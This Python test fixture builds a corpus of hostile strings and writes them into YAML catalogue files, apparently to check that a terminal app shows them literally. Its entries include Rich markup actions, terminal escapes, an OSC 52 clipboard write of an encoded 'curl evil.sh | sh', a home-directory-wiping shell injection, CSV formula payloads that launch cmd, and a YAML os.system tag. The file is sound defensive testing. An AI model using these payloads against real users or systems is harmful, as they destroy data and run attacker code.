"""A corpus of hostile strings, and a small catalogue built from them.

Every string here is something a catalogue author, a bookmark note or a query
could contain and that a careless program would obey instead of show: Rich or
Textual markup (including ``[@click=...]`` actions), terminal escape sequences
(CSI, OSC 52 clipboard writes, OSC 8 hyperlinks, window titles), bidi
overrides, invisible and combining characters, huge words, emoji sequences,
NUL, line-break injection and spreadsheet/HTML payloads.

Each entry says which part of it must stay visible (``visible``): the app and
the CLI must show that text literally. ``controls`` marks strings carrying
terminal control characters: those must never reach a terminal raw.

Lone surrogates cannot travel in UTF-8 files (the C YAML loader refuses the
``\\uD800`` escape; the pure-Python one lets it through), so they are kept
apart in ``SURROGATES`` and tested where they can really arrive: a ``\\uD800``
escape in a catalogue file, a query string, a command-line argument made of
undecodable bytes, a bookmark note.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import yaml

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"


@dataclass(frozen=True)
class Hostile:
    name: str
    value: str
    visible: str | None = None  # a substring that must be shown literally
    controls: bool = False  # carries terminal control characters (must never reach the terminal raw)


HOSTILE: tuple[Hostile, ...] = (
    # Rich / Textual markup and actions
    Hostile("click-quit", "[@click=app.quit]Press me[/]", "[@click=app.quit]"),
    Hostile("click-bell", "[@click=app.bell]ring[/]", "[@click=app.bell]"),
    Hostile("click-bare", "[@click=quit]", "[@click=quit]"),
    Hostile("bold-red", "[bold red]x[/]", "[bold red]x[/]"),
    Hostile("link-file", "[link=file:///etc/passwd]x[/link]", "[link=file:///etc/passwd]x[/link]"),
    Hostile("link-js", "[link=javascript:alert(1)]y[/link]", "[link=javascript:alert(1)]"),
    Hostile("unbalanced-open", "[", "["),
    Hostile("unbalanced-tag", "[bold", "[bold"),
    Hostile("closing-only", "[/]", "[/]"),
    Hostile("closing-named", "text [/bold] more", "[/bold]"),
    Hostile("escaped-bracket", "\\[not markup] and \\\\[b]", "\\[not markup]"),
    Hostile("textual-var", "$accent [b $error]x[/] $$", "$accent"),
    Hostile("emoji-code", ":warning: :skull: :)", ":warning:"),
    Hostile("style-on-tag", "[on red][blink]flash[/blink][/on red]", "[on red]"),
    # Terminal escapes
    Hostile("csi-colour", f"{ESC}[31mred{ESC}[0m", "red", controls=True),
    Hostile("csi-clear", f"before{ESC}[2J{ESC}[Hafter", "after", controls=True),
    Hostile("csi-cursor", f"a{ESC}[10A{ESC}[5Db", "a", controls=True),
    Hostile("osc52-clipboard", f"{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g={BEL}copy", "copy", controls=True),
    Hostile("osc8-hyperlink", f"{ESC}]8;;file:///etc/passwd{ST}click{ESC}]8;;{ST}", "click", controls=True),
    Hostile("osc-title", f"{ESC}]0;pwned{BEL}title", "title", controls=True),
    Hostile("c1-csi", "\x9b31mc1\x9b0m", "c1", controls=True),
    Hostile("dcs", f"{ESC}P1$qm{ST}dcs", "dcs", controls=True),
    Hostile("backspace-overwrite", "safe\x08\x08\x08\x08evil", "evil", controls=True),
    Hostile("bell-del", f"ding{BEL}\x7fdone", "done", controls=True),
    # Bidi, invisible, combining
    Hostile("bidi-rlo", "invoice\u202etxt.exe", "invoice", controls=True),
    Hostile("bidi-isolates", "\u2067abc\u2069 \u2066def\u2069", "abc", controls=True),
    Hostile("zero-width", "ze\u200bro\u200cwi\u200ddth\ufeff", "ze"),
    Hostile("combining-zalgo", "Z" + "\u0336\u0337\u0338\u0489" * 60 + "algo", "algo"),
    Hostile("nbsp-and-wide", "wide\u3000space\u00a0nbsp", "wide"),
    # Size, emoji
    Hostile("long-word", "x" * 10_000, "x" * 50),
    Hostile("long-url-word", "https://" + "a" * 9_990 + ".org", "https://aaaa"),
    Hostile("emoji-zwj", "family \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 done", "family"),
    Hostile(
        "emoji-flags",
        "\U0001f1fa\U0001f1f8\U0001f1ec\U0001f1e7 flags \U0001f3f3\ufe0f\u200d\U0001f308",
        "flags",
    ),
    Hostile("cjk-wide", "全角文字のタイトル", "全角文字"),
    # Control characters and line injection
    Hostile("nul", "nul\x00byte", "nul", controls=True),
    Hostile("crlf-inject", "first line\r\nInjected: header\rover", "first line", controls=True),
    Hostile("vertical-tab-ff", "vt\x0bff\x0cend", "end", controls=True),
    Hostile("tabs", "a\tb\t\tc", "a"),
    # HTML, CSV, shell payloads
    Hostile("html-script", "<script>alert(1)</script>", "<script>alert(1)</script>"),
    Hostile("html-img", '<img src=x onerror="alert(1)">&amp;&lt;', "<img src=x"),
    Hostile("csv-formula-eq", '=HYPERLINK("http://evil.example","click")', "=HYPERLINK("),
    Hostile("csv-formula-plus", "+cmd|' /C calc'!A0", "+cmd|"),
    Hostile("csv-formula-at", "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM("),
    Hostile("csv-formula-minus", "-2+3+cmd|' /C calc'!A0", "-2+3"),
    Hostile("shell", "$(rm -rf ~); `reboot` && echo pwned", "$(rm -rf ~)"),
    Hostile("format-string", "{0.__class__} %s %n {title!r}", "{0.__class__}"),
    Hostile("yaml-ish", "!!python/object/apply:os.system ['true']", "!!python/object"),
    Hostile("query-syntax", 'title:"x" AND (NOT y OR z*) year:[2000 TO] ~2', 'title:"x"'),
)

# Strings that no UTF-8 file can hold; see the module docstring.
SURROGATES: tuple[str, ...] = ("\ud800", "a\udfffb", "\udcff\udcfe", "\ud83d")

# Every character a terminal would act on rather than print (C0 bar tab/newline, DEL, C1).
TERMINAL_CONTROLS = frozenset(chr(c) for c in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)])


def by_name(name: str) -> Hostile:
    for item in HOSTILE:
        if item.name == name:
            return item
    raise KeyError(name)


def resource_id(index: int) -> str:
    return f"hostile-{index:03d}"


def write_hostile_catalogue(folder: Path, *, long_strings: bool = True) -> dict[str, Hostile]:
    """Write a catalogue whose text fields are hostile strings; return resource id -> the string it carries.

    Resource ``hostile-NNN`` carries ``HOSTILE[NNN]`` as its title and the same string in
    its description, first author, organisation, a tag, kind and note, so every widget
    that shows any of those fields meets it. Category names and summaries and the
    catalogue title are hostile too. Ids and urls stay valid, so the loader keeps every
    record. ``long_strings=False`` leaves out the 10,000-character strings (for fast runs).
    """
    folder.mkdir(parents=True, exist_ok=True)
    chosen = [h for h in HOSTILE if long_strings or len(h.value) < 1000]
    carried: dict[str, Hostile] = {}
    resources = []
    for index, item in enumerate(chosen):
        rid = resource_id(index)
        carried[rid] = item
        resources.append(
            {
                "id": rid,
                "title": item.value,
                "url": f"https://example.org/{rid}",
                "authors": [item.value, "Plain Author"],
                "organizations": [item.value],
                "year": 2018,
                "kind": "guide",
                "tags": ["hostile", item.value[:200]],
                "description": f"Description of {rid}: {item.value} (end)",
                "note": f"note {item.value}",
            }
        )
    half = len(resources) // 2
    categories = [
        (
            "markup-and-escapes",
            by_name("bold-red").value + " " + by_name("click-quit").value,
            resources[:half],
        ),
        ("the-rest", by_name("osc-title").value + " tail", resources[half:]),
    ]
    meta = {
        "title": "Hostile " + by_name("click-quit").value + " " + by_name("csi-colour").value,
        "description": by_name("link-file").value,
        "publishers": [by_name("osc52-clipboard").value],
        "categories": [cid for cid, _, _ in categories],
    }
    _dump(folder / "catalog.yaml", meta)
    for cid, name, items in categories:
        doc = {
            "category": {"id": cid, "name": name, "summary": by_name("bidi-rlo").value},
            "resources": items,
        }
        _dump(folder / f"{cid}.yaml", doc)
    return carried


def _dump(path: Path, data: object) -> None:
    # safe_dump writes control characters as double-quoted escapes (\e, \0, \x9b), which
    # every YAML loader turns back into the same characters.
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10**6), encoding="utf-8")
